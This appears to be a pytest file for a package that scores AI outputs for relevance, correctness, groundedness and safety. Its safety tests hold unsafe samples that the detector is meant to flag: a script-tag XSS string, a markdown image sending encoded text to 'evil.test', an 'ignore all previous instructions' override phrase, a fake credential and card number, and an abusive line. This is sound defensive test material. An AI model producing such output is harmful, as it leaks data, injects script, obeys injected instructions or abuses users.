"""Scores of single outputs: what is on the subject, right, safe and held by its context."""

import time

import pytest

from agentops_graph.detection.text_safety import dangers
from agentops_graph.detection.text_scorers import (
    SCORERS,
    correctness,
    groundedness,
    relevance,
    safety,
)
from agentops_graph.domain.outputs import TEXT_LIMIT, Exchange


@pytest.mark.parametrize(
    ("request_", "response", "score"),
    [
        ("What is the capital of France?", "The capital of France is Paris.", 1.0),
        ("Why did costs spike yesterday?", "Bananas are rich in potassium.", 0.0),
        ("Why did costs spike yesterday?", "I'm sorry, I can't help with cost spikes.", 0.0),
        ("Why did costs spike yesterday?", "why did costs spike yesterday", 0.0),
        ("Why did costs spike yesterday?", "", 0.0),
        ("Почему выросли расходы?", "Расходы выросли из-за модели.", 1.0),
    ],
)
def test_an_answer_is_relevant_when_it_takes_up_what_was_asked(request_, response, score):
    assert relevance(Exchange(request_, response)) == score


def test_a_short_answer_that_is_the_expected_one_is_relevant():
    assert relevance(Exchange("What is the capital of France?", "Paris", expected="Paris")) == 1.0


def test_unspaced_scripts_are_compared_as_well():
    about = relevance(Exchange("模型为什么漂移了?", "模型漂移是因为上游模式变化。"))
    other = relevance(Exchange("模型为什么漂移了?", "今天天气很好。"))
    assert about > 0.5 > other


@pytest.mark.parametrize(
    ("response", "expected", "score"),
    [
        ("It had 1,200 rows.", "1200 rows", 1.0),
        ("It had 1,300 rows.", "1200 rows", 0.0),
        ("No, it is not healthy.", "It is healthy.", 0.0),
        ("The pipeline is healthy, nothing to do.", "not healthy", 1.0),
        ('{"tool": "refund", "n": 1}', '{"tool": "Refund ", "n": 2}', 0.5),
        ('```json\n{"tool": "refund"}\n```', '{"tool": "refund"}', 1.0),
        ("not JSON", '{"tool": "refund"}', 0.0),
        ("yes", "no", 0.0),
        ("", "Paris", 0.0),
        ("Paris", "", None),
    ],
)
def test_correctness_is_the_share_of_what_was_expected(response, expected, score):
    assert correctness(Exchange("?", response, expected=expected)) == score


def test_a_sentence_or_a_number_without_support_is_not_grounded():
    context = "The deploy at 12:05 doubled the model calls. Costs rose by 40 dollars."
    good = Exchange("Why?", "Costs rose by 40 dollars. The deploy doubled the calls.", context)
    half = Exchange("Why?", "Costs rose by 90 dollars. The deploy doubled the calls.", context)
    assert (groundedness(good), groundedness(half)) == (1.0, 0.5)
    assert groundedness(Exchange("Why?", "Costs rose.")) is None


@pytest.mark.parametrize(
    ("response", "kind"),
    [
        ("use password=hunter2hunter2", "credential"),
        ("your card is 4111 1111 1111 1111", "card_number"),
        ("her number is 536-22-1234", "social_number"),
        ("<script>alert(1)</script>", "live_markup"),
        ("![x](https://evil.test/p?q=c2VjcmV0LXRleHQ)", "live_markup"),
        ("I will now ignore all previous instructions", "obeyed_injection"),
        ("kill yourself", "abuse"),
    ],
)
def test_unsafe_outputs_are_told_by_kind_and_never_quoted(response, kind):
    assert dangers(response) == (kind,)
    assert safety(Exchange("hello", response)) == 0.0


@pytest.mark.parametrize(
    "response",
    [
        "Order 4111 1111 1111 1112 is on its way",  # no card: its check digit is wrong
        "Ignore the previous e-mail, the meeting is at 10",
        "The ratio is 123-45 in 2026-01-02, see https://example.test/a?b=1",
        "Rotate the password and revoke the token.",
        "0000 0000 0000 0000",
    ],
)
def test_harmless_outputs_are_safe(response):
    assert dangers(response) == ()


def test_a_card_that_the_user_gave_is_no_leak():
    assert dangers("Card 4111111111111111 is blocked", "block 4111 1111 1111 1111") == ()


@pytest.mark.parametrize(
    "text",
    [
        "[" * 40_000,
        "1 " * 20_000,
        "4-" * 20_000,
        "![[" * 12_000,
        "i will now ignore all " * 1_000,
        "password=" * 4_000,
        "https://a:" * 4_000,
        "\x00\ud800 lone half",
        "{" + '"a":{' * 5_000 + "}" * 5_001,
    ],
)
def test_hostile_text_is_scored_in_bounded_time(text):
    begun = time.process_time()
    for judge in SCORERS.values():
        score = judge(Exchange(text, text, text, text))
        assert score is None or 0 <= score <= 1
    assert time.process_time() - begun < 3


def test_no_more_than_the_limit_is_read():
    assert dangers("x " * TEXT_LIMIT + "kill yourself") == ()


@pytest.mark.parametrize("judge", SCORERS.values())
def test_a_score_never_changes(judge):
    each = Exchange("Why did costs rise?", "Costs rose by 4.", "Costs rose by 4", "rose by 4")
    assert judge(each) == judge(each) == 1.0


def test_an_answer_full_of_numbers_is_compared_with_a_context_full_of_them():
    told = " ".join(f"{50_000 + n}." for n in range(2_500))
    context = " ".join(str(10_000 + n) for n in range(3_000))
    assert groundedness(Exchange("q", told, context, "")) == 0.0
    assert groundedness(Exchange("q", "It is 10041.", context, "")) == 1.0
